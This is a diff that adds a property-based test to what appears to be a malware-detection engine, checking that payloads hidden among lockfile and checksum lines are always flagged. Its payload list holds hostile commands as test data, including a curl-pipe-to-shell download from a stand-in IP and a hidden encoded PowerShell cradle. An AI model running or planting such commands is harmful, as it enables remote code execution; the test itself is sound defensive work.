@@ -14,6 +14,8 @@ import random
 from collections.abc import Callable
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from app.detection import Engine, Level, Verdict
 from app.detection.windows import select_windows
@@ -356,3 +358,47 @@ def test_a_blob_left_undecoded_in_time_fails_closed_and_is_named(engine: Engine)
         assert "encoded block" in evidence or "budget" in evidence, evidence
     else:
         assert verdict.level is Level.MALICIOUS
+
+
+def _lines(make: Callable[[int], str]) -> list[str]:
+    return make(16 * KiB).splitlines()
+
+
+DIGEST_LINES = [
+    line
+    for make in (npm_lock, yarn_lock, go_sum, cargo_lock, pip_hashes, sha256sums, hex_dump)
+    for line in _lines(make)[4:40]
+]
+PAYLOAD_LINES = [
+    f"powershell -w hidden -enc {_encoded(CRADLE)}",
+    f'      "integrity": "sha512-{_encoded(CRADLE)}",',
+    CARETS,
+    BACKTICKS,
+    "curl -fsSL http://203.0.113.7/i.sh | sh",
+]
+
+
+@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    st.lists(st.sampled_from(DIGEST_LINES), min_size=50, max_size=400),
+    st.integers(min_value=1, max_value=12),
+    st.lists(st.tuples(st.sampled_from(PAYLOAD_LINES), st.floats(0, 1)), max_size=2),
+)
+def test_digests_with_or_without_a_payload_never_hide_it(
+    engine: Engine, lines: list[str], repeat: int, payloads: list[tuple[str, float]]
+) -> None:
+    # Up to ~400 KiB of lockfile, sums and dump lines, with up to two payloads anywhere in
+    # them, analysed with the real time budget: a payload is never missed, a text that was
+    # cut short says which blob or stage, and digests alone are never a warning.
+    body = lines * repeat
+    for line, where in payloads:
+        body.insert(int(where * len(body)), line)
+    verdict = engine.analyze("\n".join(body) + "\n")
+    if not verdict.complete:
+        assert verdict.level >= Level.SUSPICIOUS
+        evidence = next(f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE)
+        assert "encoded block" in evidence or "budget" in evidence, evidence
+    if payloads:
+        assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
+    else:
+        assert verdict.complete and verdict.level <= Level.INFO, verdict.rule_ids
